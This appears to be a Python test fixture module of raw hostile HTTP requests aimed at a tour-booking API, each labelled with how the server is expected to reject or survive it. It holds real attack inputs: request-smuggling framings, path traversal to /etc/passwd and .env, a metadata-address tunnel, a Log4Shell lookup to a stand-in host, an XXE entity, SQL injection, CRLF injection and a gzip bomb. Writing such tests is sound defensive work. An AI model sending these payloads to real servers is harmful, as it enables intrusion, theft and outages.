"""Hostile requests as they travel, byte for byte. Words between @ are filled in when they are sent.

In each that breaks the framing a whole, valid booking follows or hides: whoever reads the bytes otherwise than
the server books seats, and the test sees it.
"""

import gzip
import json
import zlib

HOST = b"Host: @HOST@\r\n"
TOKEN = b"Authorization: Bearer @TOKEN@\r\n"
JSON = b"Content-Type: application/json\r\n"
POST = b"POST /api/v1/bookings HTTP/1.1\r\n" + HOST + TOKEN + JSON
LENGTH = b"Content-Length: @LENGTH@\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
END = b"\r\n"
BODY = b"@BODY@"
CHUNKS = b"@HEXLENGTH@\r\n@BODY@\r\n0\r\n\r\n"
SECOND = POST + LENGTH + END + BODY
GET = b"GET /api/v1/tours HTTP/1.1\r\n" + HOST


def get(target: bytes) -> bytes:
    return b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"


def with_headers(*lines: bytes) -> bytes:
    return GET + b"Connection: close\r\n" + b"".join(line + END for line in lines) + END


def posting(body: bytes, *lines: bytes) -> bytes:
    head = POST if not any(line.lower().startswith(b"content-type") for line in lines) else POST.replace(JSON, b"")
    length = b"Content-Length: %d\r\nConnection: close\r\n" % len(body)
    return head + length + b"".join(line + END for line in lines) + END + body


def transfer(coding: bytes) -> bytes:
    return POST + b"Transfer-Encoding:" + coding + END + END + CHUNKS + SECOND


def length(value: bytes) -> bytes:
    return POST + b"Content-Length:" + value + END + END + BODY + SECOND


# Where two readers could differ on where a request ends. None of these may do anything.
AMBIGUOUS = {
    "a length and chunks": POST + LENGTH + CHUNKED + END + b"0\r\n\r\n" + SECOND,
    "chunks and a length": POST + CHUNKED + LENGTH + END + b"0\r\n\r\n" + SECOND,
    "chunks and a length of nothing": POST + CHUNKED + b"Content-Length: 0\r\n\r\n" + CHUNKS + SECOND,
    "two lengths": POST + b"Content-Length: 0\r\n" + LENGTH + END + BODY + SECOND,
    "two lengths that agree": POST + LENGTH + LENGTH + END + BODY + SECOND,
    "two lengths in one line": length(b" @LENGTH@, @LENGTH@"),
    "a length with a plus": length(b" +@LENGTH@"),
    "a length under nothing": length(b" -@LENGTH@"),
    "a length with blanks inside": length(b" 1 @LENGTH@"),
    "a length in hexadecimal": length(b" 0x@HEXLENGTH@"),
    "a length with a point": length(b" @LENGTH@.0"),
    "a length with an exponent": length(b" 1e2"),
    "a length with an underscore": length(b" 1_0"),
    "a length in superscript": length(b" \xb2"),
    "a length in Arabic digits": length(" ٣".encode()),
    "a length of nothing at all": length(b""),
    "a length in words": length(b" many"),
    "a length of four hundred digits": length(b" " + b"9" * 400),
    "a length of five thousand digits": length(b" " + b"9" * 5000),
    "a length behind a vertical tab": length(b" \x0b@LENGTH@"),
    "a length of zeros": length(b" " + b"0" * 5000 + b"x"),
    "chunks twice": transfer(b" chunked, chunked"),
    "chunks in two lines": POST + CHUNKED + CHUNKED + END + CHUNKS + SECOND,
    "chunks inside identity": transfer(b" chunked, identity"),
    "identity alone": transfer(b" identity"),
    "compressed alone": transfer(b" gzip"),
    "chunks, then compressed": transfer(b" chunked, gzip"),
    "chunks in quotes": transfer(b' "chunked"'),
    "chunks misspelt": transfer(b" xchunked"),
    "chunks with a word before": transfer(b" cow, chunked"),
    "chunks behind a vertical tab": transfer(b" \x0bchunked"),
    "chunks before a NUL": transfer(b" chunked\x00"),
    "chunks with a parameter": transfer(b" chunked;x=1"),
    "no coding at all": transfer(b""),
    "chunks in the old version": transfer(b" chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "a blank before the colon": POST + b"Content-Length : 0\r\n" + LENGTH + END + BODY + SECOND,
    "a tab before the colon": POST + b"Transfer-Encoding\t: chunked\r\n" + LENGTH + END + b"0\r\n\r\n" + SECOND,
    "a blank before the name": POST + b" Transfer-Encoding: chunked\r\n" + LENGTH + END + b"0\r\n\r\n" + SECOND,
    "a folded line": POST + b"Transfer-Encoding:\r\n chunked\r\n" + LENGTH + END + b"0\r\n\r\n" + SECOND,
    "an underscore for a hyphen": POST + b"Content_Length: 0\r\n" + LENGTH + CHUNKED + END + CHUNKS + SECOND,
    "lines that end with LF": (POST + LENGTH).replace(b"\r\n", b"\n") + b"\n" + BODY,
    "one line that ends with LF": POST + b"X: y\nContent-Length: 0\r\n" + END + SECOND,
    "lines that end with CR": (POST + LENGTH).replace(b"\r\n", b"\r") + b"\r" + BODY,
    "one line that ends with CR": POST + b"X: y\rTransfer-Encoding: chunked\r\n" + LENGTH + END + BODY + SECOND,
    "a NUL in a name": POST + b"X\x00: y\r\n" + LENGTH + END + BODY,
    "a NUL in a value": POST + b"X: a\x00b\r\n" + LENGTH + END + BODY,
    "a line without a colon": POST + b"nothing\r\n" + LENGTH + END + BODY,
    "a name that is empty": POST + b": y\r\n" + LENGTH + END + BODY,
    "a name that is not ASCII": POST + "é: y\r\n".encode() + LENGTH + END + BODY,
    "a name in brackets": POST + b"(X): y\r\n" + LENGTH + END + BODY,
    "two types": POST + JSON + LENGTH + END + BODY,
    "a chunk longer than anything": POST + CHUNKED + END + b"f" * 40 + b"\r\n" + BODY,
    "chunks that stop": POST + CHUNKED + END + b"@HEXLENGTH@\r\n@BODY@\r\n",
    "a chunk that stops": POST + CHUNKED + END + b"ffff\r\n" + BODY,
    "a body that never comes": POST + LENGTH + END,
    "a body without a length": POST + END + BODY,
    "headers that stop": POST + LENGTH,
    "a line that stops": POST[:30],
    "nothing but ends of lines": END * 5000,
    "nothing but NULs": b"\x00" * 5000,
    "an expectation that is none": POST + LENGTH + b"Expect: miracles\r\n" + END + BODY,
    "a greeting of TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 512,
    "a greeting of SSH": b"SSH-2.0-OpenSSH_9.9\r\n",
    "a greeting of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    "a greeting of a proxy": b"PROXY TCP4 203.0.113.9 127.0.0.1 1 2\r\n" + SECOND,
    "a greeting of a proxy, binary": b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c" + b"\x7f\x00\x00\x01" * 3 + SECOND,
}

# Chunks that are none: found out only while the shop reads the body.
BROKEN_CHUNKS = {
    "a chunk of no size": POST + CHUNKED + END + b"\r\n" + BODY + SECOND,
    "a chunk of a size in words": POST + CHUNKED + END + b"many\r\n" + BODY + SECOND,
    "a chunk under nothing": POST + CHUNKED + END + b"-1\r\n" + BODY + SECOND,
    "a chunk with a plus": POST + CHUNKED + END + b"+@HEXLENGTH@\r\n@BODY@\r\n0\r\n\r\n" + SECOND,
    "a chunk in C's hexadecimal": POST + CHUNKED + END + b"0x@HEXLENGTH@\r\n@BODY@\r\n0\r\n\r\n" + SECOND,
    "a chunk longer than its size": POST + CHUNKED + END + b"1\r\n@BODY@\r\n0\r\n\r\n" + SECOND,
    "a chunk's size that never ends": POST + CHUNKED + END + b"0" * 20_000,
    "a chunk that ends with LF": POST + CHUNKED + END + b"@HEXLENGTH@\n@BODY@\n0\n\n" + SECOND,
    "a chunk with a hostile extension": POST + CHUNKED + END + b"@HEXLENGTH@;\x00=\r\n@BODY@\r\n0\r\n\r\n" + SECOND,
    "a trailer that sets the length": POST + CHUNKED + END + b"@HEXLENGTH@\r\n@BODY@\r\n0\r\nContent-Length: 1\r\n\r\n",
    "a trailer that is none": POST + CHUNKED + END + b"@HEXLENGTH@\r\n@BODY@\r\n0\r\nnothing\r\n\r\n",
    "a trailer without end": POST + CHUNKED + END + b"@HEXLENGTH@\r\n@BODY@\r\n0\r\n" + b"X: y\r\n" * 200_000,
}

# Lines that ask for nothing the shop knows. Refused, each in its way.
ODD_LINES = {
    "the old protocol": b"GET /api/v1/tours\r\n",
    "a version that is another protocol": GET.replace(b"1.1", b"2.0") + END,
    "a version of two digits": GET.replace(b"1.1", b"1.10") + END,
    "a version in small letters": GET.replace(b"HTTP", b"http") + END,
    "a version with words behind": GET.replace(b"1.1\r", b"1.1 x\r") + END,
    "no target": b"GET  HTTP/1.1\r\n" + HOST + END,
    "a target with a blank": get(b"/api/v1/tours x"),
    "a target with a tab": get(b"/api/v1/tours\tx"),
    "a target with a NUL": get(b"/api/v1/tours\x00"),
    "a target that is not ASCII": get("/api/v1/tours/é".encode()),
    "a target without a slash": get(b"api/v1/tours"),
    "a target longer than a line may be": get(b"/api/v1/tours?q=" + b"x" * 5000),
    "a target longer than anything": get(b"/" + b"x" * 1_000_000),
    "a method in small letters": GET.replace(b"GET", b"get") + END,
    "a method that is long": GET.replace(b"GET", b"G" * 300) + END,
    "a method with a NUL": GET.replace(b"GET", b"G\x00T") + END,
    "a method in brackets": GET.replace(b"GET", b"(GET)") + END,
    "no method": GET.replace(b"GET ", b" ") + END,
    **{
        f"the method {name}": GET.replace(b"GET", name.encode()) + END
        for name in (
            *("TRACE", "PUT", "PATCH", "DELETE", "POST", "PROPFIND", "BREW", "PURGE", "M-SEARCH", "DEBUG", "QUERY"),
        )
    },
    "a tunnel": b"CONNECT 169.254.169.254:80 HTTP/1.1\r\n" + HOST + END,
    "the whole server, asked for": b"GET * HTTP/1.1\r\n" + HOST + END,
    "sixty headers and some": with_headers(*[b"X-%d: y" % n for n in range(70)]),
    "a thousand headers": with_headers(*[b"X-%d: y" % n for n in range(1000)]),
    "a header of ten thousand letters": with_headers(b"X: " + b"y" * 10_000),
    "a header of a million letters": with_headers(b"X: " + b"y" * 1_000_000),
    "a name of ten thousand letters": with_headers(b"X" * 10_000 + b": y"),
    "two hosts": with_headers(b"Host: elsewhere.example"),
    **{
        f"the path {path.decode()[:40]}": get(path)
        for path in (
            *(b"//etc/passwd", b"/../../etc/passwd", b"/..%2f..%2fetc%2fpasswd", b"/%2e%2e/%2e%2e/etc/passwd"),
            *(b"/images/..%2f..%2fetc%2fpasswd", b"/images/%2e%2e%5c%2e%2e%5cetc", b"/images/....//....//etc/passwd"),
            *(b"/api/v1/tours/%00", b"/%00", b"/api/v1/tours%00", b"/images/%00.svg", b"/tickets/%00.pdf"),
            *(b"/api/v1/tours/%c0%ae%c0%ae", b"/api/v1/tours/%ed%a0%80", b"/api/v1/tours/%ff%fe", b"/%u0041"),
            *(b"/api/v1/tours/%zz", b"/api/v1/tours/%", b"/api/v1/tours/" + b"%25" * 500 + b"00", b"/api/v1/tours;x=y"),
            *(b"/tickets/INS1.svg", b"/tickets/%0d%0aSet-Cookie:%20a=b.ics", b"/api/v1/tours/%0d%0aX:%20y"),
            *(b"/api/v1/" + b"a/" * 1500, b"/api/v1/tours/%f0%9f%8e%ab", b"/.env", b"/.git/config", b"/wsgi.py"),
            *(b"/static/../config/default.py", b"/metrics/../healthz", b"/api/v1/docs/", b"/api/v2/tours"),
            *(b"/api/v1/tours/a'%20OR%201=1--", b"/api/v1/tours/%7b%7b7*7%7d%7d", b"/api/v1/tours/$%7bjndi:x%7d"),
        )
    },
}

# Unusual, but HTTP: the shop answers, and is not misled.
MERELY_ODD = {
    "the whole address": get(b"http://elsewhere.example/api/v1/tours"),
    "the whole address of a file": get(b"file:///etc/passwd"),
    "the whole address with a password": get(b"http://a:b@elsewhere.example/api/v1/tours"),
    "options of the whole server": b"OPTIONS * HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n",
    "an empty line first": END + GET + b"Connection: close\r\n\r\n",
    "a fragment": get(b"/api/v1/tours#tours"),
    "a head": GET.replace(b"GET", b"HEAD") + b"Connection: close\r\n\r\n",
    "a version that will come": GET.replace(b"1.1", b"1.2") + b"Connection: close\r\n\r\n",
    "the old version": b"GET /api/v1/tours HTTP/1.0\r\n\r\n",
    "no host": b"GET /api/v1/tours?page_size=1 HTTP/1.1\r\nConnection: close\r\n\r\n",
    **{
        f"the host {host[:30]!r}": b"GET /api/v1/tours?page_size=1 HTTP/1.1\r\nConnection: close\r\nHost: "
        + host
        + END
        + END
        for host in (
            *(b"elsewhere.example", b"elsewhere.example:99999", b"a@elsewhere.example", b"elsewhere.example/x", b""),
            *(b"[::1", b"127.0.0.1:x", b"elsewhere.example elsewhere.example", b"elsewhere.example" * 200),
            *(b"\xc3\xa9.elsewhere.example", b"elsewhere.example,127.0.0.1", b"*", b"../elsewhere.example"),
        )
    },
    **{
        f"the header {line[:50]!r}": with_headers(line)
        for line in (
            *(
                b"X-Forwarded-Host: elsewhere.example",
                b"Forwarded: host=elsewhere.example",
                b"X-Original-URL: /metrics",
            ),
            *(
                b"X-Forwarded-For: 127.0.0.1, elsewhere.example",
                b"X-Forwarded-Proto: elsewhere.example",
                b"X-Real-IP: x",
            ),
            *(
                b"X-HTTP-Method-Override: DELETE",
                b"X-Forwarded-Prefix: //elsewhere.example",
                b"Proxy: elsewhere.example",
            ),
            *(
                b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings",
                b"TE: trailers",
            ),
            *(b"Upgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13", b"Trailer: Host"),
            *(b"Range: bytes=0-0", b"Range: bytes=-1", b"Range: bytes=" + b"0-," * 1000 + b"0-", b"Range: apples=1-x"),
            *(b"If-None-Match: " + b'"x",' * 1000, b'If-None-Match: "', b"If-Match: x", b"If-Range: \xff"),
            *(b"If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT", b"If-Modified-Since: \xff", b"Date: x"),
            *(b"Accept-Language: " + b"zh-x," * 1500, b"Accept-Language: fr;q=nan", b"Accept-Language: fr;q=1e999"),
            *(b"Accept-Language: fr;q=" + b"9" * 5000, b"Accept-Language: \xff\xfe", b"Accept-Language: ;;;,,,=;q"),
            *(b"Accept: */*;q=x", b"Accept: " + b"a/b," * 1500, b"Accept-Encoding: " + b"gzip;q=0," * 800),
            *(b"Cookie: " + b"a=b;" * 1900, b'Cookie: a="\\999"', b"X-Request-ID: a\tb", b"X-Request-ID: \xc3\xa9"),
            *(b"Content-Type: " + b";a=b" * 1900, b"Content-Type: multipart/form-data", b"Content-Length: 0"),
            *(
                b"Authorization: Bearer \xff\xfe",
                b"Authorization: Basic Og==",
                b"Authorization: Bearer " + b"x." * 4000,
            ),
            *(b'Authorization: Digest username="\\", nonce=', b"Authorization: Bearer a\r\nAuthorization: Bearer b"),
            *(b"User-Agent: ${jndi:ldap://elsewhere.example/x}", b"Referer: javascript:alert(1)", b"Max-Forwards: -1"),
        )
    },
    **{
        f"the query {query[:40].decode()}": get(b"/api/v1/tours?" + query)
        for query in (
            *(
                b"page_size=1&page_size=2",
                b"page_size=1&page_size=x",
                b"lang=fr&lang=en",
                b"q=a&q=b&q=c",
                b"q[]=1&q[a]=2",
            ),
            *(b"&" * 3500, b"=" * 3500, b"a=" * 1700, b"&".join(b"a%d=" % n for n in range(500)), b"q=%", b"q=%zz"),
            *(
                b"q=%ed%a0%80",
                b"q=%c0%80",
                b"q=%ff%fe",
                b"q=%00",
                b"%00=1",
                b"q=" + b"%F0%9F%8E%AB" * 200,
                b"q=+%20%09%0a",
            ),
            *(b"lang=%00", b"lang=" + b"x" * 3500, b"lang=%ff", b"lang=fr%0d%0aX:y", b"lang=..%2f..%2f", b"lang[]=fr"),
            *(
                b"cursor=" + b"A" * 300,
                b"cursor=W1tbW1tbXV1dXV1d",
                b"cursor=bnVsbA",
                b"cursor=WyIiLCIiXQ",
                b"cursor=%00",
            ),
            *(
                b"cursor=" + b"W1" * 150,
                b"cursor=WyJcdWQ4MDAiLCJhIl0",
                b"cursor=WyJcdTAwMDAiLCJcdTAwMDAiXQ",
                b"cursor=W251bGxd",
            ),
            *(
                b"from=2027-05-01T10:00:00%2B23:59",
                b"from=%D9%A2%D9%A0%D9%A2%D9%A7-05-01",
                b"to=2027-W01-1",
                b"from=-1",
            ),
            *(
                b"page_size=1e1",
                b"page_size=%D9%A3",
                b"page_size=0x10",
                b"page_size=1_0",
                b"page_size=1.0",
                b"page_size=nan",
            ),
            *(
                b"q=" + b"(" * 100,
                b"q=%25%25%25",
                b"q=_%25_",
                b"q=%5C",
                b"q='%20OR%20'1'='1",
                b"q=%EF%B7%BA" * 1,
                b"theme=%25",
            ),
        )
    },
}

VALID = b'{"departure_id": "@DEPARTURE@", "units": [{"code": "adult", "quantity": 1}]}'
TEXT = VALID.decode()


def encoded(name: str) -> bytes:
    """The booking in another encoding; its id is that of no departure, as nothing can be filled in."""
    return TEXT.replace("@DEPARTURE@", "019a0000-0000-7000-8000-000000000000").encode(name)


def nested(opening: bytes, closing: bytes, times: int) -> bytes:
    return b'{"departure_id": ' + opening * times + b"1" + closing * times + b"}"


# Bodies that are not what they should be: 4xx, and nothing held.
BODIES = {
    **{f"in {name}": posting(encoded(name)) for name in ("utf-16", "utf-16-le", "utf-32", "utf-7", "cp037")},
    **{
        f"saying {name}": posting(encoded(name), b"Content-Type: application/json; charset=" + name.encode())
        for name in ("utf-16", "utf-32-be", "utf-7")
    },
    "in latin-1": posting(
        '{"departure_id": "é"}'.encode("latin-1"), b"Content-Type: application/json; charset=latin-1"
    ),
    "compressed": posting(gzip.compress(b"{}", mtime=0), b"Content-Encoding: gzip"),
    "compressed, not saying so": posting(gzip.compress(b"{}", mtime=0)),
    "deflated": posting(zlib.compress(b"{}"), b"Content-Encoding: deflate"),
    "a bomb, compressed": posting(gzip.compress(b" " * 40_000_000, mtime=0), b"Content-Encoding: gzip"),
    "a form": posting(b"departure_id=@DEPARTURE@", b"Content-Type: application/x-www-form-urlencoded"),
    "many forms": posting(b"--x\r\n\r\n" * 5000, b"Content-Type: multipart/form-data; boundary=x"),
    "a form without a boundary": posting(b"--x\r\n", b"Content-Type: multipart/form-data"),
    "XML": posting(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', b"Content-Type: text/xml"),
    "two values": posting(b"{} {}"),
    "lines of values": posting(b"{}\n{}\n"),
    "an object and more": posting(b'{"departure_id": "x"}//'),
    "comments": posting(b'{/* */"departure_id": "x"}'),
    "a record separator": posting(b"\x1e{}"),
    "a name twice": posting(
        b'{"departure_id": "@DEPARTURE@", "units": [], "units": [{"code": "adult", "quantity": -1}]}'
    ),
    "a thousand names": posting(json.dumps({f"n{n}": n for n in range(1000)}).encode()),
    "a name of ten thousand letters": posting(b'{"' + b"n" * 10_000 + b'": 1}'),
    "ten thousand units": posting(b'{"departure_id": "@DEPARTURE@", "units": [' + b"{}," * 10_000 + b"{}]}"),
    "a thousand digits": posting(VALID.replace(b": 1}", b": 1" + b"0" * 1000 + b"}")),
    "a thousand digits behind the point": posting(VALID.replace(b": 1}", b": 1." + b"0" * 1000 + b"1}")),
    "an exponent without end": posting(VALID.replace(b": 1}", b": 1e" + b"9" * 1000 + b"}")),
    "an exponent under nothing": posting(VALID.replace(b": 1}", b": 1e-" + b"9" * 1000 + b"}")),
    "minus nothing": posting(VALID.replace(b": 1}", b": -0}")),
    "a whole decimal": posting(VALID.replace(b": 1}", b": 1.0}")),
    "not a number": posting(VALID.replace(b": 1}", b": NaN}")),
    "infinity": posting(VALID.replace(b": 1}", b": -Infinity}")),
    "true for one": posting(VALID.replace(b": 1}", b": true}")),
    "a text for one": posting(VALID.replace(b": 1}", b': "1"}')),
    "nested lists": posting(nested(b"[", b"]", 20_000)),
    "nested objects": posting(nested(b'{"a":', b"}", 8_000)),
    "lists that are never closed": posting(b"[" * 60_000),
    "nested by escapes": posting(b'{"departure_id": "' + b"\\u005b" * 9_000 + b'"}'),
    "a NUL, escaped": posting(VALID.replace(b"adult", b"ad\\u0000ult")),
    "a NUL": posting(VALID.replace(b"adult", b"ad\x00ult")),
    "half a surrogate": posting(VALID.replace(b"adult", b"\\ud83c")),
    "surrogates the wrong way round": posting(VALID.replace(b"adult", b"\\udf9f\\ud83c")),
    "a surrogate in UTF-8": posting(VALID.replace(b"adult", b"\xed\xa0\x80")),
    "overlong UTF-8": posting(VALID.replace(b"adult", b"\xc0\xae")),
    "letters beyond Unicode": posting(VALID.replace(b"adult", b"\xf7\xbf\xbf\xbf")),
    "marks of direction": posting(VALID.replace(b"adult", "\u202e\u2066adult".encode())),
    "a code that is not ASCII": posting(VALID.replace(b"adult", "ａｄｕｌｔ".encode())),
    "SQL": posting(VALID.replace(b"adult", b"adult'; DROP TABLE bookings; --")),
    "format marks": posting(VALID.replace(b"adult", b"%s%(x)s{0.__class__}{unit}${7*7}")),
    "too long by a byte": posting(b" " * (64 * 1024) + b"1"),
    "too long by far": posting(b" " * 10_000_000),
    "too long by its word": POST + b"Content-Length: 10000000000\r\n" + END + BODY,
    "too long in chunks": POST + CHUNKED + END + b"10000\r\n" + b" " * 65_536 + b"\r\n10000\r\n" + b" " * 65_536 + END,
    "chunks without end": POST + CHUNKED + END + b"1\r\n \r\n" * 100_000 + b"0\r\n\r\n",
}
